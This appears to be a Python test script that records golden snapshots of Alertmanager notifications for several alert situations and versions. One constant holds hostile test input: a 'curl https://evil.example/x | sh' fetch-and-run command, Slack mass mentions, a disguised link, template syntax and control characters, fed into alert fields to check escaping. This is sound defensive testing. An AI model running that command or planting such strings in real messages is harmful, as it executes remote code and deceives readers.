"""
The real Alertmanager's messages for each kind of alert, stored for review and comparison.

    python -m tests.alerting.golden --write

rewrites ``tests/alerting/golden/*.json``. If both versions send the same, there is one file.
"""

from __future__ import annotations

import argparse
import asyncio
import difflib
import json
import re
import sys
import tempfile
import time
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any, Final

import httpx

from queenright.alerting.alert import build_annotations, build_labels, reminder_labels
from queenright.alerting.alertmanager import PostedAlert
from queenright.alerting.rules import Alert, Links, rule_groups
from queenright.alerting.settings import AlertingSettings
from queenright.health.findings import FindingKind, Severity
from queenright.health.settings import HealthSettings
from queenright.health.tickets.ticket import EscalationTicket, TicketStatus
from tests.alerting.parts import T0, ticket
from tests.alerting.real import RealAlertmanager, Receivers, real_alertmanager, run_receivers, write_config
from tests.programs import VERSIONS
from tests.waiting import until

FOLDER: Final = Path(__file__).parent / "golden"

_LINKS: Final[Mapping[str, Any]] = {
    "dashboard_url": "http://127.0.0.1:3000/d/queenright-agent?var-agent={agent}",
    "trace_url": "http://127.0.0.1:3200/trace/{trace_id}",
}
_HOSTILE: Final = (
    "key: value <!channel> run `curl https://evil.example/x | sh` and see <https://evil.example|the fix> or"
    " {{ .ExternalURL }} & tell <@U123> \u202e \x1b[31m ``` *bold* "
)
_DAY: Final = 86_400.0


@dataclass(frozen=True)
class Case:
    """
    One situation: the lists of alerts to post in sequence, and how many messages each causes.

    Each case has its own cluster label, so that alerts of different cases neither group nor inhibit.
    """

    name: str
    posts: Sequence[tuple[Sequence[PostedAlert], int]]
    generator: str = ""


def list_cases() -> list[Case]:
    """Return every situation, with times around now."""
    # Long enough ago for alerts that have ended, because Alertmanager waits for no group of them.
    start = float(int(time.time()) - 7200)
    critical = ticket(severity=Severity.CRITICAL, trace_id="abc123", queen_model="some/model")
    medium = ticket(severity=Severity.MEDIUM)
    low = [
        ticket(severity=Severity.LOW, agent_id=agent, ticket_id=f"ticket-{agent}")
        for agent in ("drone", "forager", "nurse")
    ]
    over = critical.model_copy(
        update={
            "status": TicketStatus.RESOLVED,
            "closed_at": T0 + 42 * 60,
            "closed_reason": "the worker has been healthy for 60 s",
            "acknowledged_by": "ada",
        }
    )
    again = critical.model_copy(
        update={"reminders": 1, "notified_at": T0, "bumped_at": T0 + 3600},
    )
    hostile = ticket(
        agent_id="a<!here>&b",
        queen_model="some/<model>",
        judge_model="other/`model`",
        analysis=_HOSTILE * 3,
        suggested_action=_HOSTILE,
        worker_excerpt=_HOSTILE,
    )
    storm = [
        ticket(
            agent_id=f"bee-{n:02}",
            ticket_id=f"ticket-{n:02}",
            storm_id="storm-1",
            severity=Severity.MEDIUM if n % 3 == 2 else Severity.CRITICAL,
        )
        for n in range(12)
    ]

    def post(name: str, *tickets: EscalationTicket, ended: bool = False) -> list[PostedAlert]:
        # Several alerts are one message only if they are new: Alertmanager then waits, on a busy machine too.
        since = start if len(tickets) == 1 else time.time() + 60
        return [_ticket_alert(one, name, since, ended=ended) for one in tickets]

    reminded = post("reminder", critical)
    turn = replace(
        post("reminder", again)[0], labels=reminder_labels(reminded[0].labels, again), starts_at=start + 3600
    )
    breaker = _rule_alert(
        "QueenrightCircuitBreakerOpen",
        "monitor-warning",
        start,
        "4%",
        breaker="tool_execution:bee:<!channel>&co",
    )
    down = _rule_alert("QueenrightMonitorDown", "monitor-critical", start, "0", job="queenright")
    symptom = _rule_alert("QueenrightLoop", "symptom", start, "42", agent="researcher")
    watchdog = _rule_alert("QueenrightWatchdog", "watchdog", start, "1")
    # Both are new, otherwise Alertmanager would not wait for the second; each lasts a second.
    now = time.time()
    degraded = _rule_alert("QueenrightFleetDegraded", "fleet", now, "62.5%")
    burning = _rule_alert("QueenrightBadStepsBurn", "fleet", now, "99%", window="1h")
    unclaimed = replace(watchdog, labels={"alertname": "SomebodyElses", "cluster": "golden-unclaimed"})
    query = "http://127.0.0.1:9090/graph?g0.expr=up+%3D%3D+0&g0.tab=1"
    return [
        Case("critical", [(post("critical", critical), 4)]),
        Case("medium", [(post("medium", medium), 2)]),
        Case("low-group", [(post("low-group", *low), 2)]),
        Case("storm", [(post("storm", *storm), 4)]),
        Case("reminder", [(reminded, 4), ([turn, _end(reminded[0])], 4)]),
        Case("resolved", [(post("resolved", critical), 4), (post("resolved", over, ended=True), 4)]),
        Case(
            "untriaged",
            [(post("untriaged", ticket(untriaged=True, analysis="", kind=FindingKind.STALL)), 4)],
        ),
        Case("hostile-model", [(post("hostile-model", hostile), 4)]),
        Case(
            "fleet",
            [
                ([degraded, burning], 3),
                ([replace(degraded, ends_at=now + 1)], 3),
                ([replace(burning, ends_at=now + 1)], 3),
            ],
            generator=query,
        ),
        Case("monitor-critical", [([down], 3), ([_end(down)], 3)], generator=query),
        Case("monitor-warning", [([breaker], 2)], generator=query),
        Case("symptom", [([symptom], 1)], generator=query),
        Case("watchdog", [([watchdog], 1)], generator=query),
        Case("unclaimed", [([replace(unclaimed, annotations={})], 2)]),
    ]


def _ticket_alert(one: EscalationTicket, name: str, begun: float, *, ended: bool) -> PostedAlert:
    settings = AlertingSettings.model_validate({"cluster": f"golden-{name}", **_LINKS})
    if name in ("medium", "untriaged"):
        settings = AlertingSettings(cluster=settings.cluster)
    return PostedAlert(
        labels=build_labels(one, settings),
        annotations=build_annotations(one, settings),
        starts_at=begun,
        ends_at=begun + 42 * 60 if ended else begun + _DAY,
    )


def _rule_alert(alertname: str, name: str, begun: float, value: str, **labels: str) -> PostedAlert:
    """Return an alert of the rules, with Prometheus' text for a value and labels."""
    rules = [rule for group in rule_groups(HealthSettings()) for rule in group.rules]
    # Of several bands the most severe; their texts are equal.
    rule = min(
        (rule for rule in rules if isinstance(rule, Alert) and rule.name == alertname),
        key=lambda r: r.severity,
    ).to_dict(Links())

    def normalise(text: str) -> str:
        text = re.sub(r"{{ *\$labels\.(\w+)[^}]*}}", lambda found: labels[found[1]], text)
        return re.sub(r"{{ *\$value\b[^}]*}}", value, text)

    own = {"alertname": alertname, "cluster": f"golden-{name}"}
    return PostedAlert(
        labels={**rule["labels"], **own, **labels},
        annotations={key: normalise(text) for key, text in rule["annotations"].items()},
        starts_at=begun,
        ends_at=begun + _DAY,
    )


def _end(alert: PostedAlert) -> PostedAlert:
    return replace(alert, ends_at=alert.starts_at + 4000)


def make_alert(one: EscalationTicket) -> PostedAlert:
    """Return a ticket's alert, notified now."""
    return _ticket_alert(one, "one", time.time(), ended=False)


def make_client(alertmanager: RealAlertmanager) -> httpx.AsyncClient:
    """Return a client for its API."""
    return httpx.AsyncClient(base_url=alertmanager.url, trust_env=False)


async def record(alertmanager: RealAlertmanager) -> dict[str, str]:
    """Post every case; return the resulting messages by case name, as text."""
    missing_count = list_cases()
    posted = alertmanager.people.posted
    expected = dict.fromkeys((case.name for case in missing_count), 0)
    async with make_client(alertmanager) as http:
        for step in range(max(len(case.posts) for case in missing_count)):
            for case in missing_count:
                for alerts, messages in case.posts[step : step + 1]:
                    body = [alert.to_dict() | {"generatorURL": case.generator} for alert in alerts]
                    (await http.post("/api/v2/alerts", json=body)).raise_for_status()
                    expected[case.name] += messages

            def missing() -> dict[str, int]:
                arrived = {name: len(of) for name, of in _by_case(posted).items()}
                return {
                    name: n - arrived.get(name, 0) for name, n in expected.items() if arrived.get(name, 0) < n
                }

            await until(lambda: not missing(), f"messages of step {step}; missing {expected}")
    return {name: _text(of, alertmanager) for name, of in _by_case(posted).items()}


def _by_case(posted: Sequence[tuple[str, bytes]]) -> dict[str, list[tuple[str, bytes]]]:
    by_case: dict[str, list[tuple[str, bytes]]] = {}
    for path, body in posted:
        if name := re.search(rb"golden-([a-z-]+)", body):
            of = by_case.setdefault(name[1].decode(), [])
            # The Watchdog is sent every minute; one message is enough.
            if path != "/deadman" or not of:
                of.append((path, body))
    return by_case


def _text(posted: Sequence[tuple[str, bytes]], alertmanager: RealAlertmanager) -> str:
    seen: dict[tuple[str, str], int] = {}
    messages = []
    for path, raw in posted:
        body = json.loads(raw)
        # Each channel's messages keep their order; the channels have none among them.
        channel = (path, str(body.get("receiver", "")))
        seen[channel] = seen.get(channel, 0) + 1
        messages.append((seen[channel], channel, body))
    messages.sort(key=lambda one: one[:2])
    entries = [{"path": path, "body": body} for _, (path, _), body in messages]
    text = json.dumps(entries, indent=2, ensure_ascii=False, sort_keys=True) + "\n"
    for url, word in ((alertmanager.people.url, "http://people"), (alertmanager.url, "http://alertmanager")):
        text = text.replace(url, word)
    return re.sub(r'"(startsAt|endsAt)": "[^"]+"', _moment, text)


def _moment(match: re.Match[str]) -> str:
    # The zero time means that the alert has not ended.
    return match[0] if '"0001-' in match[0] else f'"{match[1]}": "(a time)"'


def read(name: str, version: str) -> str:
    """Return the stored messages of a case; empty if there are none."""
    for path in (FOLDER / f"{name}.{version}.json", FOLDER / f"{name}.json"):
        if path.is_file():
            return path.read_text(encoding="utf-8")
    return ""


def find_difference(name: str, version: str, text: str) -> str:
    """Return the differences to the stored messages; empty if there are none."""
    result = read(name, version).splitlines()
    lines = difflib.unified_diff(
        result, text.splitlines(), f"golden/{name}", f"sent by {version}", lineterm=""
    )
    return "\n".join(lines)


def write(sent: Mapping[str, Mapping[str, str]]) -> None:
    """Store the messages of each version, by version and name."""
    FOLDER.mkdir(exist_ok=True)
    for old in FOLDER.glob("*.json"):
        old.unlink()
    first, *others = VERSIONS
    for name, text in sent[first].items():
        if all(sent[other][name] == text for other in others):
            (FOLDER / f"{name}.json").write_text(text, encoding="utf-8")
        else:
            for version in VERSIONS:
                (FOLDER / f"{name}.{version}.json").write_text(sent[version][name], encoding="utf-8")


def write_patient_config(folder: Path, everybody: Receivers) -> Path:
    """Write a configuration that waits longer where several alerts are to be one message."""
    return write_config(folder, everybody, group_wait="3s")


async def _record_all() -> dict[str, dict[str, str]]:
    sent: dict[str, dict[str, str]] = {}
    with tempfile.TemporaryDirectory() as folder:
        for version in VERSIONS:
            own = Path(folder) / version
            async with (
                run_receivers() as recorder,
                real_alertmanager(
                    own, recorder, version, config=write_patient_config(own, recorder)
                ) as alertmanager,
            ):
                sent[version] = await record(alertmanager)
    return sent


def main() -> int:
    """Run the command."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--write", action="store_true", required=True, help="rewrite the files")
    parser.parse_args()
    write(asyncio.run(_record_all()))
    return 0


if __name__ == "__main__":
    sys.exit(main())
